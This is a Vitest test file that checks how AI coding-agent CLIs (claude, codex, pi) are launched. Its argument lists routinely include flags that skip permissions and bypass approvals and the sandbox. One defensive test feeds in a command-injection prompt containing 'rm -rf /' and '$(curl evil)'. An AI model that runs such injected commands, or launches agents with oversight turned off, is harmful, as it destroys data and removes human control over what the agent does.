import { describe, expect, it } from 'vitest';
import { agentCommand } from '../../src/providers/command.js';

describe('agent CLI argv', () => {
  it.each([
    ['claude', {}, ['claude', '--dangerously-skip-permissions']],
    [
      'claude',
      { headless: { prompt: 'say hi' } },
      ['claude', '--dangerously-skip-permissions', '-p', 'say hi'],
    ],
    [
      'claude',
      { model: 'opus', resume: true },
      ['claude', '--dangerously-skip-permissions', '--model', 'opus', '--continue'],
    ],
    ['codex', {}, ['codex', '--dangerously-bypass-approvals-and-sandbox']],
    [
      'codex',
      { headless: { prompt: 'say hi' } },
      [
        'codex',
        'exec',
        '--dangerously-bypass-approvals-and-sandbox',
        '--skip-git-repo-check',
        'say hi',
      ],
    ],
    [
      'codex',
      { resume: true },
      ['codex', 'resume', '--last', '--dangerously-bypass-approvals-and-sandbox'],
    ],
    [
      'codex',
      { headless: { prompt: 'go on' }, resume: true, model: 'gpt-5' },
      [
        'codex',
        'exec',
        'resume',
        '--last',
        '--dangerously-bypass-approvals-and-sandbox',
        '--skip-git-repo-check',
        '--model',
        'gpt-5',
        'go on',
      ],
    ],
    ['pi', {}, ['pi']],
    [
      'pi',
      { headless: { prompt: 'say hi' }, model: 'sonnet' },
      ['pi', '--model', 'sonnet', '-p', 'say hi'],
    ],
    ['pi', { resume: true }, ['pi', '--continue']],
  ] as const)('%s %j', (provider, req, argv) => {
    expect(agentCommand(provider, req)).toEqual(argv);
  });

  it('keeps a hostile prompt as one argument', () => {
    const prompt = '"; rm -rf / #\n$(curl evil) `id`';
    for (const p of ['claude', 'codex', 'pi'] as const) {
      const argv = agentCommand(p, { headless: { prompt } });
      expect(argv.at(-1)).toBe(prompt);
      expect(argv.filter((a) => a.includes('rm -rf'))).toHaveLength(1);
    }
  });
});
